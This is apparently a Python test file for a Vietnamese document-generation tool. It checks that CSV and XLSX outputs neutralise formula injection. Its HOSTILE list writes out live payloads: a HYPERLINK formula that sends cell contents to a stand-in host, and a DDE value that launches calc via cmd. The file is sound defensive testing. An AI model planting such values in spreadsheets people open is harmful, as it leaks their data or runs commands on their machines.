"""One guard against formula injection in every CSV and XLSX file written: manifest.csv,
missing.csv, rejected.csv and compiled.xlsx, with hostile values."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl  # type: ignore[import-untyped, unused-ignore]
import pytest

from tdkt_docs.batch import render_batch
from tdkt_docs.monthly.compile import compile_month
from tdkt_docs.monthly.schema import COLUMNS
from tdkt_docs.tabular import csv_bytes, csv_cell, looks_like_formula
from tests.conftest import EXAMPLES
from tests.test_monthly_compile import AGENCY, SIGNER, UNITS_YAML, exemplar

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1, "Bấm vào đây")',
    "+84 258 3822 001",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_run_gets_an_apostrophe(text: str) -> None:
    assert looks_like_formula(text)
    assert csv_cell(text) == "'" + text
    (row,) = read_csv(csv_bytes(["a"], [[text]]))[1:]
    assert row == ["'" + text]


@pytest.mark.parametrize("value", ["Sở Y tế", " =1", "'=1", "a=b", "", None, -5, 2.5])
def test_other_values_are_written_as_they_are(value: object) -> None:
    expected = "" if value is None else str(value)
    assert csv_cell(value) == expected
    assert read_csv(csv_bytes(["a"], [[value]]))[1] == [expected]


def test_manifest_csv(tmp_path: Path) -> None:
    rows = [
        {"code": "=1+2", "name": "Sở Y tế", "recipient": "Sở Y tế"},
        {"code": "@SUM(1)", "name": "Sở Tư pháp", "recipient": "Sở Tư pháp"},
    ]
    result = render_batch(
        EXAMPLES / "reminders" / "don_doc.yaml", rows, tmp_path / "out", name_pattern="{code}"
    )
    lines = read_csv(result.manifest.read_bytes())
    assert [line[2] for line in lines[1:]] == ["'=1+2.docx", "'@SUM(1).docx"]
    assert [p.name for p in result.written] == ["=1+2.docx", "@SUM(1).docx"]


def test_rejected_csv_missing_csv_and_compiled_xlsx(tmp_path: Path) -> None:
    (tmp_path / "units.yaml").write_text(UNITS_YAML, "utf-8")
    folder = tmp_path / "in"
    folder.mkdir()
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append([column.heading for column in COLUMNS])
    values = exemplar("STC", HOSTILE[0], "cá nhân", "khác", achievements="- Hoàn thành xuất sắc")
    for number, column in enumerate(COLUMNS, start=1):
        cell = sheet.cell(2, number, values.get(column.key))
        cell.data_type = "s"  # typed as text in the submission, not a formula
    workbook.save(folder / "stc.xlsx")
    (folder / "@SUM(1).csv").write_bytes(b"\xff\xfe")
    result = compile_month(
        "2023-09",
        tmp_path / "units.yaml",
        folder,
        tmp_path / "out",
        agency=AGENCY,
        signer=SIGNER,
    )
    (accepted,) = result.intake.exemplars
    assert (accepted.name, accepted.achievements) == (HOSTILE[0], "- Hoàn thành xuất sắc")
    rejected = read_csv(result.rejected_csv.read_bytes())
    assert rejected[1][0] == "'@SUM(1).csv"
    assert read_csv(result.missing_csv.read_bytes())[0] == [
        "code", "name", "group", "recipient", "email",
    ]  # fmt: skip

    compiled = openpyxl.load_workbook(result.compiled_xlsx)
    row = next(compiled.active.iter_rows(min_row=2, max_row=2))
    name, achievements = row[1], row[7]
    for cell, text in ((name, HOSTILE[0]), (achievements, "- Hoàn thành xuất sắc")):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    assert row[-1].quotePrefix is False  # "stc.xlsx, row 2": plain text, no prefix
    with zipfile.ZipFile(result.compiled_xlsx) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml  # a string, never a formula
